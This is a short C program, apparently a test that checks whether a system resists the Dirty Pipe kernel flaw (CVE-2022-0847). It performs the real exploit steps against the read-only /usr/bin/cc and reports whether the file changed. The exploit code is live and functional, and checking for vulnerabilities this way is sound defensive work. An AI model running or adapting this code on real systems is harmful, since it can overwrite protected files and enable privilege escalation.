// tries: to write to a file that it may only read, through pages that a pipe shares with it (CVE-2022-0847)
// right: held
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <sys/types.h>
#include <unistd.h>

int main(void) {
    const char *path = "/usr/bin/cc";
    char before[64], after[64], page[4096];
    int fd = open(path, O_RDONLY), ends[2];
    if (fd == -1 || pread(fd, before, 64, 0) != 64 || pipe(ends)) return perror(path), 1;
    int size = fcntl(ends[1], F_GETPIPE_SZ);
    for (int done = 0; done < size; done += 4096) if (write(ends[1], page, 4096) != 4096) return 1;
    for (int done = 0; done < size; done += 4096) if (read(ends[0], page, 4096) != 4096) return 1;
    loff_t offset = 3;
    if (splice(fd, &offset, ends[1], 0, 1, 0) == 1) (void)!write(ends[1], "breached", 8);
    if (pread(fd, after, 64, 0) != 64 || memcmp(before, after, 64)) return puts("breached: the file has changed"), 1;
    if (syscall(SYS_vmsplice, ends[1], 0, 0, 8) != -1) return puts("breached: vmsplice"), 1;
    puts("held");
}
